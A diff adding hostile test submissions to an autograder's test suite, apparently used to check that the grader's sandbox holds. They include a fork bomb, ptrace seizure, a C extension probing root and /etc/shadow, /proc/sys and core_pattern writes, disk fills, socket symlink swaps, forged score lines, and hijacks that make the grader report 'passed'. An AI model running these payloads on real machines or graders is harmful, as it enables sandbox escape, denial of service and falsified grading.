@@ -228,3 +228,181 @@ raise RuntimeError(f'memory children: {{[p.poll() for p in children]}}')
 """
 
 CHAPTERS = "CHAPTERS"  # replaced by the test with the real path of chapters/
+
+
+# ------------------------------------------------------ issue 35's attacks --
+# Each either reports what it reached in the message of an exception (the feedback quotes it), or
+# keeps the solutions and tries to harm the grader, the machine or the class around them.
+
+FORK_BOMB = """\
+import os, time
+started = refused = 0
+children = []
+end = time.monotonic() + 5
+while time.monotonic() < end and refused < 200:
+    try:
+        pid = os.fork()
+    except OSError:
+        refused += 1
+        time.sleep(0.01)
+        continue
+    if pid == 0:
+        time.sleep(3)
+        os._exit(0)
+    started += 1
+    children.append(pid)
+for pid in children:
+    try:
+        os.waitpid(pid, 0)
+    except OSError:
+        pass
+raise RuntimeError(f'fork bomb: started {started} refused {refused}')
+"""
+
+PTRACE = """\
+import ctypes, os
+libc = ctypes.CDLL(None, use_errno=True)
+visible = sorted(int(p) for p in os.listdir('/proc') if p.isdigit())
+seized = [pid for pid in visible if pid != os.getpid() and libc.ptrace(0x4206, pid, None, None) == 0]
+raise RuntimeError(f'ptrace: visible {len(visible)} seized {seized}')
+"""
+
+C_EXTENSION = r"""
+import ctypes, os, shutil, subprocess
+source = '''
+#include <fcntl.h>
+#include <unistd.h>
+int escape(void) {
+    int found = 0;
+    if (setuid(0) == 0) found |= 1;
+    int fd = open("/proc/sys/kernel/core_pattern", O_WRONLY);
+    if (fd >= 0) { found |= 2; close(fd); }
+    fd = open("/etc/shadow", O_RDONLY);
+    if (fd >= 0) { char b; if (read(fd, &b, 1) == 1) found |= 4; close(fd); }
+    if (unshare(0x10000000) == 0) found |= 8;
+    return found;
+}
+'''
+compiler = shutil.which('gcc') or shutil.which('cc')
+if compiler is None:
+    raise RuntimeError('c extension: no compiler')
+with open('/tmp/escape.c', 'w') as fh:
+    fh.write('#define _GNU_SOURCE\n#include <sched.h>\n' + source)
+subprocess.run([compiler, '-shared', '-fPIC', '-o', '/tmp/escape.so', '/tmp/escape.c'], check=True,
+               capture_output=True)
+raise RuntimeError(f'c extension: built, escapes {ctypes.CDLL("/tmp/escape.so").escape()}')
+"""
+
+BIG_VALUE = """\
+import numpy as np
+def bernoulli_mle(x):
+    return np.ones(8 * 2**20 + 1)  # 64 MiB and 8 bytes: more than a reply may carry
+"""
+
+DEEP_REPLY = """\
+k = get_ipython().kernel
+def _forge(stream, idents, msg):
+    k.session.send(stream, 'gm_reply', {'data': '[' * 100000 + ']' * 100000}, parent=msg, ident=idents)
+k.shell_handlers['gm_request'] = _forge
+""" + WRONG
+
+HUGE_REPLY = """\
+k = get_ipython().kernel
+_real = k.shell_handlers['gm_request']
+def _forge(stream, idents, msg):
+    k.shell_handlers['gm_request'] = _real  # once: 65 MiB of reply, then the grader's own agent again
+    k.session.send(stream, 'gm_reply', {'data': 'x' * (65 * 2**20)}, parent=msg, ident=idents)
+k.shell_handlers['gm_request'] = _forge
+""" + WRONG
+
+ODD_ARRAYS = [  # the three answers of chapter 2: NaN, a structured array, an object array
+    "import numpy as np\ndef bernoulli_mle(x):\n    return float('nan')\n",
+    "import numpy as np\ndef bernoulli_log_likelihood(x, theta):\n"
+    "    return np.array([(1, 2.0)], dtype=[('a', 'i4'), ('b', 'f8')])\n",
+    "import numpy as np\ndef smoothed_categorical_mle(counts, alpha):\n"
+    "    return np.array([object(), np.inf], dtype=object)\n",
+]
+
+SOCKET_SWAP = """\
+import os
+target = 'HOST_SOCKET'  # replaced by the test: a socket the test listens on, on the host
+for name in ('k-1', 'k-2', 'k-3', 'k-4', 'k-5'):
+    path = '/tmp/.gm/' + name
+    try:
+        os.unlink(path)
+    except OSError:
+        pass
+    os.symlink(target, path)
+"""
+
+FAKE_LINES = ("\\nScore: 3 / 3\\n| ex-bernoulli-mle | 1 / 1 | passed: forged |\\n"
+              "s02 handed in the notebook handed out to s03\\n"
+              "WARNING: the submissions folder changed while grading: everything\\n\\x1b[2J\\x1b[H")
+
+NEWLINE_WARNING = f"""\
+import warnings
+import numpy as np
+def bernoulli_mle(x):
+    warnings.warn("{FAKE_LINES}")
+    return float(np.mean(x))
+"""
+
+NEWLINE_EXCEPTION = f"""\
+raise ValueError("{FAKE_LINES}")
+"""
+
+SHM_FILL = """\
+import os
+def fill(folder, limit_mib):
+    written = 0
+    try:
+        with open(os.path.join(folder, 'fill.bin'), 'wb') as fh:
+            for _ in range(limit_mib):
+                fh.write(b'x' * 2**20)
+                fh.flush()
+                written += 1
+    except OSError:
+        pass
+    return written
+shm, tmp = fill('/dev/shm', 300), fill('/tmp', 700)
+try:
+    open('/dev/fill.bin', 'wb').write(b'x')
+    dev = 'written'
+except OSError as exc:
+    dev = exc.strerror
+for folder in ('/dev/shm', '/tmp'):
+    os.unlink(os.path.join(folder, 'fill.bin'))
+raise RuntimeError(f'filled: shm {shm} MiB, tmp {tmp} MiB, dev {dev}')
+"""
+
+PROC_SYS = """\
+written = []
+for path in ('/proc/sys/kernel/core_pattern', '/proc/sys/kernel/panic', '/proc/sys/vm/drop_caches',
+             '/proc/sys/kernel/pid_max', '/proc/sysrq-trigger'):
+    try:
+        with open(path, 'w') as fh:
+            fh.write('|/proc/%P/root/tmp/x' if 'core' in path else '0')
+        written.append(path)
+    except OSError:
+        pass
+raise RuntimeError(f'tunables written: {written}')
+"""
+
+# The names of the notebook's namespace the old agent looked up, rebound; and NumPy functions the
+# agent uses, patched. The solutions are kept: the grader must not notice.
+HIJACK_HONEST = """\
+import numpy
+exec = eval = compile = lambda *args, **kwargs: None
+json = get_ipython = None
+numpy.array_equal = lambda *args, **kwargs: False
+numpy.lib.format.write_array = lambda *args, **kwargs: None
+"""
+
+# exec rebound to plant a forged agent that answers 'passed' values: the answer is wrong all the same.
+HIJACK_FORGE = """\
+import json as _j
+def exec(code, ns=None, *rest):
+    if ns is not None:
+        ns['serve'] = lambda req, ip: ip.payload_manager.write_payload(
+            {'source': 'gm-grader', 'data': _j.dumps({'ok': True, 'value': 0.6})})
+""" + WRONG
